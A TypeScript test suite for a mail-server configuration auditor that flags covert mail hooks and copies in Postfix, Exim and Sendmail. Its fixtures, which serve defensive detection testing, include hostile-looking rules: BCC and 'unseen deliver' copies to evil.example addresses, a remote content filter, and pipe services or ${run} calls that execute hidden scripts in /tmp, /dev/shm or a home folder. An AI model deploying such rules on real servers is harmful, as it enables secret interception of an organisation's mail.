// The mail-server audit: Debian's shipped configurations report nothing above low; each verdict
// has a case that raises it and one that does not; baseline changes; the CLI on a collection.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { readCollection, auditEverything, changesSinceBaseline } from '../../src/audit/run.js';
import { mtaAuditData } from '../../src/audit/mta/catalogue.js';
import { SEVERITY_RANK, type Finding } from '../../src/findings/model.js';
import { EXIM_CONFIG, POSTFIX_SHARE, SENDMAIL_CF } from '../support/mta-packages.js';
import { main } from '../../src/cli/main.js';

const tmp = () => mkdtempSync(join(tmpdir(), 'th-mta-'));
const put = (dir: string, files: Record<string, string>) => {
  for (const [rel, text] of Object.entries(files)) { mkdirSync(dirname(join(dir, rel)), { recursive: true }); writeFileSync(join(dir, rel), text); }
  return dir;
};
const show = (fs: Finding[]) => fs.map((f) => `${f.severity} ${f.check} ${f.title}`).join('\n');
async function audit(dir: string, orgDomains: string[] = []) {
  const r = await readCollection([dir], []);
  return { read: r, ...auditEverything(r.collection, r.mta, { orgDomains }) };
}
const bySubject = (fs: Finding[], part: string) => fs.filter((f) => f.title.includes(part));

test('data: every known tool has a source and a way to be recognised; check texts load', () => {
  const { catalogue, checks } = mtaAuditData();
  assert.ok(catalogue.known.length >= 10);
  for (const k of catalogue.known) {
    assert.ok(k.sources.length > 0, k.tool);
    assert.ok(k.programs.length + k.sockets.length + k.transports.length > 0, k.tool);
  }
  for (const t of ['opendkim', 'opendmarc', 'amavisd-new', 'spamass-milter', 'clamav-milter', 'rspamd']) assert.ok(catalogue.known.some((k) => k.tool === t), t);
  assert.equal(checks['mta-copy-outside'].severity, 'high');
});

test("Debian's shipped Postfix, Exim and Sendmail configurations: nothing above low", { skip: POSTFIX_SHARE.skip || EXIM_CONFIG.skip || SENDMAIL_CF.skip }, async () => {
  const dir = tmp();
  try {
    cpSync(join(POSTFIX_SHARE.path, 'main.cf.debian'), join(dir, 'etc/postfix/main.cf'), { recursive: true });
    cpSync(join(POSTFIX_SHARE.path, 'master.cf.dist'), join(dir, 'etc/postfix/master.cf'));
    cpSync(EXIM_CONFIG.path, join(dir, 'etc/exim4'), { recursive: true });
    cpSync(join(SENDMAIL_CF.path, 'debian/sendmail.mc'), join(dir, 'etc/mail/sendmail.mc'));
    const r = await audit(dir);
    assert.deepEqual(r.read.mta.problems, []);
    assert.equal(r.read.mta.postfixMain.length, 1);
    assert.equal(r.read.mta.exim.length, 2, 'the template and the split conf.d');
    assert.equal(r.read.mta.sendmail.length, 1);
    const above = r.findings.filter((f) => SEVERITY_RANK[f.severity] > SEVERITY_RANK.low);
    assert.deepEqual(above, [], show(above));
    // the inventory is there: Postfix's optional pipe services and Exim's procmail/maildrop pipes
    assert.ok(r.findings.filter((f) => f.check === 'mta-known-hook').length >= 8, show(r.findings));
    assert.ok(r.findings.some((f) => f.title.includes('exim pipe transport [procmail_pipe]')));
  } finally { rmSync(dir, { recursive: true, force: true }); }
});

const MAIN = 'myhostname = mx.example.org\nmydestination = $myhostname, example.org, localhost\n';

test('Postfix verdicts: known milter vs hidden socket; packaged vs unowned pipe program; content filter to a remote host', async () => {
  const dir = put(tmp(), {
    'etc/postfix/main.cf': MAIN + 'smtpd_milters = local:/run/opendkim/opendkim.sock, unix:/var/spool/postfix/.x/m.sock, inet:127.0.0.1:7777\nnon_smtpd_milters = $smtpd_milters\ncontent_filter = smtp:[relay.evil.example]:25\n',
    'etc/postfix/master.cf': [
      'smtp inet n - y - - smtpd',
      '  -o content_filter=smtp-amavis:[127.0.0.1]:10024',
      'spamassassin unix - n n - - pipe user=debian-spamd argv=/usr/bin/spamc -f -e /usr/sbin/sendmail -oi -f ${sender} ${recipient}',
      'archiver unix - n n - - pipe user=nobody argv=/usr/local/bin/archive ${recipient}',
      'tool unix - n n - - pipe user=nobody argv=/usr/bin/mail-tool ${recipient}',
      'hidden unix - n n - - pipe user=nobody argv=/bin/sh /home/bob/.f.sh',
    ].join('\n'),
    'owners.tsv': '# tracehound-mta owners\n/usr/local/bin/archive\t-\n/usr/bin/mail-tool\tmail-tools\n/usr/bin/spamc\tspamc\n',
  });
  try {
    const { findings } = await audit(dir);
    const v = (part: string) => bySubject(findings, part).map((f) => f.check);
    assert.deepEqual(v(' postfix smtpd_milters: local:/run/opendkim'), ['mta-known-hook']);
    assert.deepEqual(v(' postfix smtpd_milters: unix:/var/spool/postfix/.x/m.sock'), ['mta-suspicious-hook']);
    assert.deepEqual(v(' postfix smtpd_milters: inet:127.0.0.1:7777'), ['mta-unknown-hook']);
    assert.deepEqual(v('[spamassassin]'), ['mta-known-hook']);
    assert.deepEqual(v('[archiver]'), ['mta-suspicious-hook'], 'owned by no package');
    assert.deepEqual(v('[tool]'), ['mta-packaged-hook']);
    assert.deepEqual(v('[hidden]'), ['mta-suspicious-hook']);
    assert.match((bySubject(findings, '[hidden]')[0]!.fields['reasons'] as string[]).join(' '), /user's folder|hidden/);
    assert.deepEqual(v('content_filter: smtp:[relay.evil.example]:25'), ['mta-suspicious-hook']);
    assert.deepEqual(v('content_filter [smtp/inet]: smtp-amavis'), ['mta-known-hook'], 'per-service -o override');
    // the non_smtpd_milters copy of the list is its own hook point with the same verdicts
    assert.equal(bySubject(findings, 'non_smtpd_milters').length, 3);
  } finally { rmSync(dir, { recursive: true, force: true }); }
});

test('copies: BCC maps, always_bcc, header_checks BCC/REDIRECT/FILTER judged by the organisation domain', async () => {
  const dir = put(tmp(), {
    'etc/postfix/main.cf': MAIN + 'always_bcc = archive@example.org\nsender_bcc_maps = hash:/etc/postfix/sender_bcc, static:{ copy@partner.example }\nheader_checks = regexp:/etc/postfix/header_checks\nrecipient_bcc_maps = hash:/etc/postfix/not-collected\n',
    'etc/postfix/master.cf': 'smtp inet n - y - - smtpd\nsteal unix - n n - - pipe user=nobody argv=/dev/shm/s ${recipient}\n',
    'etc/postfix/sender_bcc': 'ceo@example.org  drop@evil.example\ncfo@example.org  audit@mail.example.org\n',
    'etc/postfix/header_checks': '/^Subject:.*confidential/ BCC x@evil.example\n/^To:.*ceo/ REDIRECT ceo-assistant\n/^X-Scan:/ FILTER steal:dummy\n/^Received:/ IGNORE\n',
  });
  try {
    const { findings, read } = await audit(dir);
    const v = (part: string) => bySubject(findings, part).map((f) => f.check);
    assert.deepEqual(v('always_bcc'), ['mta-copy-inside']);
    assert.deepEqual(v('[ceo@example.org]: drop@evil.example'), ['mta-copy-outside']);
    assert.deepEqual(v('audit@mail.example.org'), ['mta-copy-inside'], 'subdomain of an own domain');
    assert.deepEqual(v('copy@partner.example'), ['mta-copy-outside']);
    assert.deepEqual(v('header_checks BCC'), ['mta-copy-outside']);
    assert.deepEqual(v('header_checks REDIRECT'), ['mta-copy-inside'], 'a local recipient');
    assert.deepEqual(v('header_checks FILTER'), ['mta-suspicious-hook'], 'the FILTER transport resolves to its pipe service');
    assert.ok(!findings.some((f) => f.title.includes('IGNORE')));
    assert.deepEqual(v('not-collected'), ['mta-unknown-hook']);
    assert.equal(bySubject(findings, 'not-collected')[0]!.severity, 'low');
    assert.ok(read.mta.problems.length === 0);
    // --org-domain widens the organisation
    const again = await audit(dir, ['partner.example']);
    assert.deepEqual(bySubject(again.findings, 'copy@partner.example').map((f) => f.check), ['mta-copy-inside']);
  } finally { rmSync(dir, { recursive: true, force: true }); }
  // no domain known at all: medium, not judged
  const bare = put(tmp(), { 'main.cf': 'always_bcc = x@somewhere.example\nsmtpd_banner = $myhostname ESMTP\n' });
  try {
    const { findings } = await audit(bare);
    assert.deepEqual(findings.map((f) => f.check), ['mta-copy-unknown-org']);
  } finally { rmSync(bare, { recursive: true, force: true }); }
});

test('milter socket served by the wrong process (ss -xlpn) is suspicious; by the right one, known', async () => {
  const base = { 'main.cf': MAIN + 'smtpd_milters = local:/run/opendkim/opendkim.sock\n' };
  const ss = (proc: string) => `Netid State  Recv-Q Send-Q Local Address:Port  Peer Address:Port Process\nu_str LISTEN 0 4096 /run/opendkim/opendkim.sock 12345 * 0 users:(("${proc}",pid=812,fd=3))\n`;
  const bad = put(tmp(), { ...base, 'ss-xlpn.txt': ss('python3') });
  const good = put(tmp(), { ...base, 'ss-xlpn.txt': ss('opendkim') });
  try {
    assert.deepEqual((await audit(bad)).findings.map((f) => f.check), ['mta-suspicious-hook']);
    assert.deepEqual((await audit(good)).findings.map((f) => f.check), ['mta-known-hook']);
  } finally { rmSync(bad, { recursive: true, force: true }); rmSync(good, { recursive: true, force: true }); }
});

test('Exim: system filter with unseen deliver outside, ${run} from /tmp, transport_filter; Sendmail milter in /dev/shm', async () => {
  const dir = put(tmp(), {
    'etc/exim4/exim4.conf': [
      'domainlist local_domains = example.org',
      'system_filter = /etc/exim4/system.filter',
      'begin acl',
      'acl_check_data:',
      '  warn set acl_m0 = ${run{/tmp/.s $message_exim_id}}',
      '  accept',
      'begin routers',
      'bcc_all:',
      '  driver = redirect',
      '  unseen',
      '  data = keep@example.org',
      'begin transports',
      'remote_smtp:',
      '  driver = smtp',
      '  transport_filter = /usr/local/sbin/rewrite',
    ].join('\n'),
    'etc/exim4/system.filter': '# Exim filter\nunseen deliver spy@evil.example\n',
    'etc/mail/sendmail.cf': 'V10/Berkeley\nO InputMailFilters=m\nXm, S=local:/dev/shm/m.sock\nXk, S=inet:8891@localhost\n',
  });
  try {
    const { findings } = await audit(dir);
    const v = (part: string) => bySubject(findings, part).map((f) => f.check);
    assert.deepEqual(v('unseen deliver'), ['mta-copy-outside']);
    assert.deepEqual(v('${run}'), ['mta-suspicious-hook']);
    assert.deepEqual(v('unseen redirect router'), ['mta-copy-inside']);
    assert.deepEqual(v('transport_filter'), ['mta-unknown-hook']);
    assert.deepEqual(v('system_filter:'), ['mta-unknown-hook']);
    assert.deepEqual(v('sendmail X (mail filter) [m]'), ['mta-suspicious-hook']);
    assert.deepEqual(v('sendmail X (mail filter) [k]'), ['mta-known-hook']);
  } finally { rmSync(dir, { recursive: true, force: true }); }
});

test('baseline: a hook added is reported at least medium, a removed one low; unchanged configs report nothing', async () => {
  const old = put(tmp(), { 'main.cf': MAIN + 'smtpd_milters = local:/run/opendkim/opendkim.sock\n' });
  const cur = put(tmp(), { 'main.cf': MAIN + 'smtpd_milters = unix:/tmp/m.sock\nalways_bcc = x@evil.example\n' });
  try {
    const a = await readCollection([old], []), b = await readCollection([cur], []);
    const changes = changesSinceBaseline(a, b);
    assert.deepEqual(changes.map((f) => [f.severity, f.fields['change'], f.fields['point']]).sort(), [
      ['high', 'added', 'always_bcc'], ['high', 'added', 'smtpd_milters'], ['low', 'removed', 'smtpd_milters']]);
    assert.deepEqual(changesSinceBaseline(a, a), []);
  } finally { rmSync(old, { recursive: true, force: true }); rmSync(cur, { recursive: true, force: true }); }
});

test('CLI: bad files reported with file and line on stderr, the run goes on; --org-domain checked', async () => {
  const dir = put(tmp(), { 'main.cf': MAIN + 'garbage line here\nalways_bcc = a@evil.example\n', 'master.cf': 'smtp inet n - y - - smtpd -o {\n' });
  const out = join(dir, 'out.jsonl');
  const err: string[] = [];
  const orig = process.stderr.write.bind(process.stderr);
  (process.stderr as unknown as { write: (s: string) => boolean }).write = (s: string) => { err.push(String(s)); return true; };
  try {
    const rc = await main(['audit', dir, '--format', 'jsonl', '-o', out, '--fail-on', 'high']);
    assert.equal(rc, 1);
    const lines = readFileSync(out, 'utf8').trim().split('\n').map((l) => JSON.parse(l) as Finding);
    assert.deepEqual(lines.map((f) => f.check), ['mta-copy-outside']);
    assert.ok(err.some((e) => e.includes('main.cf:3: not a \'name = value\' line')), err.join(''));
    assert.ok(err.some((e) => e.includes('master.cf:1: unbalanced {')), err.join(''));
    assert.equal(await main(['audit', dir, '--org-domain', 'not a domain', '-o', out]), 2);
  } finally { (process.stderr as unknown as { write: typeof orig }).write = orig; rmSync(dir, { recursive: true, force: true }); }
});
